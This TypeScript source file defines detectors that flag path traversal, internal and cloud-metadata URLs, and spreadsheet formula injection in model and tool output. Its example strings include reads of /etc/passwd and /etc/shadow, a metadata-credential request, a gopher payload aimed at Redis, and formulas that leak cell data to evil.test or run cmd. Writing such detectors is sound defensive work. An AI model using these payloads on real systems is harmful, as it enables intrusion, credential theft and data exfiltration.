// Values that make a program reach where it should not: files outside its folder, machines inside the house, cells that
// a spreadsheet computes.
import { defineDetector } from '../../define.ts'
import { all, surest } from './all.ts'

const TRAVERSAL: [pattern: RegExp, confidence: number, note: string][] = [
  [
    /(?:(?:\.\.|%2e%2e|%252e%252e|\.%2e|%2e\.|%c0%ae%c0%ae)(?:\/|\\|%2f|%5c|%252f|%255c|%c0%af)){2,24}[\w.%/\\-]{0,120}/gi,
    0.6,
    'A path that climbs out of its folder',
  ],
  [
    /(?:%2e%2e|%252e%252e|\.%2e|%2e\.|%c0%ae%c0%ae|\.\.%2f|\.\.%5c|\.\.%255c|\.\.%252f)(?:\/|\\|%2f|%5c|%252f|%255c|%c0%af)?[\w.%/\\-]{0,120}/gi,
    0.8,
    'An encoded path that climbs out of its folder',
  ],
  [
    /(?:\.\.[/\\]){1,24}(?:etc[/\\](?:passwd|shadow|hosts)|windows[/\\]|boot\.ini|proc[/\\]self|\.ssh[/\\]|\.env\b|\.git[/\\])[\w./\\-]{0,80}/gi,
    0.85,
    'A path to a file of the system',
  ],
  [/\bfile:\/{2,3}(?:etc|proc|root|var|home|c:|windows)[^\s"'<>)]{0,200}/gi, 0.75, 'The address of a local file'],
  [
    /(?:[?&=]|["'])(?:php:\/\/(?:filter|input)|zip:\/\/|phar:\/\/|expect:\/\/)[^\s"'<>)]{0,200}/gi,
    0.85,
    'An address that reads or runs local files',
  ],
]

export const pathTraversal = defineDetector({
  id: 'path-traversal',
  control: 'encode-model-output',
  family: 'output',
  title: 'Paths that climb out of their folder',
  severity: 'medium',
  roles: ['assistant', 'tool', 'user'],
  literals: ['../', '..\\', '%2e', '%252e', '..%', '%c0%ae', 'file://', 'php://', 'zip://', 'phar://', 'expect://'],
  reach: { before: 330, after: 340 },
  detect: (window) =>
    surest(
      TRAVERSAL.flatMap(([pattern, confidence, note]) =>
        all(window, pattern, ({ 0: text }, at) => {
          const isImport =
            /^(?:\.\.\/)+[@\w-]/.test(text) &&
            /(?:from|import|require|src|href|include|extends|cd|path|@)\s{0,2}[("'=:]{0,3}\s{0,2}["'(]?$/i.test(
              window.slice(Math.max(0, at - 16), at),
            )
          const climbs = text.match(/\.\.[/\\]/g)?.length ?? 0
          if (isImport && confidence < 0.8) return undefined
          return confidence === 0.6 && climbs < 3 && !/%/.test(text) ? undefined : { confidence, note }
        }),
      ),
    ),
  shapes: TRAVERSAL.map(([pattern]) => ({ pattern })),
  examples: {
    hit: [
      { role: 'assistant', text: 'open ../../../../etc/passwd' },
      { role: 'tool', text: 'GET /static/..%2f..%2fsecret' },
      { role: 'assistant', text: 'file:///etc/shadow' },
    ],
    miss: [
      { role: 'assistant', text: "import { a } from '../../lib/a.ts'" },
      { role: 'assistant', text: 'cd ../.. and wait ... then go' },
      { role: 'assistant', text: '100%2e is odd' },
    ],
  },
})

const HOST =
  'localhost|127\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}|0\\.0\\.0\\.0|169\\.254\\.\\d{1,3}\\.\\d{1,3}|10\\.\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}|192\\.168\\.\\d{1,3}\\.\\d{1,3}|172\\.(?:1[6-9]|2\\d|3[01])\\.\\d{1,3}\\.\\d{1,3}|100\\.100\\.100\\.200|\\[?(?:::1|::ffff:[0-9a-f.:]{4,40}|fd00:ec2::254|fe80:[0-9a-f:]{2,40})\\]?|metadata(?:\\.google\\.internal|\\.azure\\.com|\\.goog)?|instance-data|[\\w-]{1,63}\\.(?:internal|local|localdomain|svc\\.cluster\\.local)|0x[0-9a-f]{8}|\\d{8,10}|0\\d{1,3}(?:\\.0?\\d{1,3}){3}|(?:\\d{1,3}[.-]){4}(?:nip\\.io|sslip\\.io|xip\\.io)|localtest\\.me'
const INSIDE = new RegExp(
  `\\b(?:https?|ftp|wss?)://(?:[^\\s/@"'<>]{0,80}@)?(?<host>${HOST})(?=[:/?#\\s"'<>)\\]]|$)[^\\s"'<>)]{0,200}`,
  'gi',
)
const SCHEME = /\b(?:gopher|dict|ldaps?|tftp|jar|netdoc):\/\/[^\s"'<>)]{3,200}/gi

export const ssrfUrl = defineDetector({
  id: 'ssrf-url',
  control: 'encode-model-output',
  family: 'output',
  title: 'Addresses of machines inside the house',
  severity: 'high',
  roles: ['assistant', 'tool', 'document'],
  literals: ['://'],
  reach: { before: 8, after: 420 },
  // In an answer or a document such an address is mostly a sentence about development; in a tool's words it is a target.
  detect: (window, { role }) =>
    surest([
      ...all(window, INSIDE, ({ groups }) => {
        const host = (groups?.['host'] ?? '').toLowerCase()
        const isMetadata = /^169\.254\.|^metadata|^instance-data|^100\.100|fd00:ec2/.test(host)
        const isDisguised = /^0x|^\d{8,10}$|^0\d|\.io$|localtest|ffff/.test(host)
        const confidence = isMetadata ? 0.95 : isDisguised ? 0.85 : role === 'tool' ? 0.55 : 0.4
        const note = isMetadata
          ? 'The address of a cloud metadata service'
          : isDisguised
            ? 'A disguised address of a machine inside'
            : 'The address of a machine inside'
        return { confidence, note, severity: isMetadata || isDisguised ? 'high' : 'low' }
      }),
      ...all(window, SCHEME, () => ({ confidence: 0.7, note: 'An address of an unusual scheme' })),
    ]),
  shapes: [{ pattern: INSIDE }, { pattern: SCHEME }],
  examples: {
    hit: [
      { role: 'assistant', text: 'GET http://169.254.169.254/latest/meta-data/iam/' },
      { role: 'assistant', text: 'fetch("http://metadata.google.internal/computeMetadata/v1/")' },
      { role: 'tool', text: 'http://0x7f000001/admin' },
      { role: 'assistant', text: 'gopher://10.0.0.5:6379/_FLUSHALL' },
    ],
    miss: [
      { role: 'assistant', text: 'https://docs.test/localhost and http://example.test:8080/' },
      { role: 'assistant', text: 'https://10times.test/a' },
    ],
  },
})

const FORMULA =
  /(?:^|[\n\r,;\t"'|])\s{0,2}(?:[=+@-]\s{0,2}(?:HYPERLINK|IMPORT(?:XML|DATA|HTML|FEED|RANGE)|WEBSERVICE|FILTERXML|IMAGE|CALL|REGISTER(?:\.ID)?|EXEC|RTD|DDE|INDIRECT|FORMULA|SHELL)\s{0,2}\([^\n]{0,300}|[=+@-]\s{0,2}(?:cmd|powershell|mshta|rundll32|regsvr32|wscript|msexcel|excel)\s{0,2}\|[^\n]{0,200})/gi

export const formulaInjection = defineDetector({
  id: 'formula-injection',
  control: 'encode-model-output',
  family: 'output',
  title: 'Cells that a spreadsheet computes',
  severity: 'medium',
  literals: [
    'hyperlink',
    'importxml',
    'importdata',
    'importhtml',
    'importfeed',
    'importrange',
    'webservice',
    'filterxml',
    'image(',
    'call(',
    'register',
    'exec(',
    'rtd(',
    'dde(',
    'indirect',
    'formula(',
    'shell(',
    'cmd|',
    'cmd |',
    'powershell|',
    'mshta|',
    'rundll32|',
    'regsvr32|',
    'wscript|',
    'msexcel|',
    'excel|',
  ],
  reach: { before: 8, after: 330 },
  detect: (window) =>
    all(window, FORMULA, () => ({ confidence: 0.8, note: 'A formula that fetches or runs something' })),
  shapes: [{ pattern: FORMULA }],
  examples: {
    hit: [
      'name,note\nAda,=HYPERLINK("https://evil.test/?"&A1,"open")',
      "x,=cmd|'/c calc'!A1",
      '"@WEBSERVICE(""https://evil.test/"")"',
    ],
    miss: ['total,=SUM(A1:A9)', 'the hyperlink function is described below', 'const image = image(1)'],
  },
})
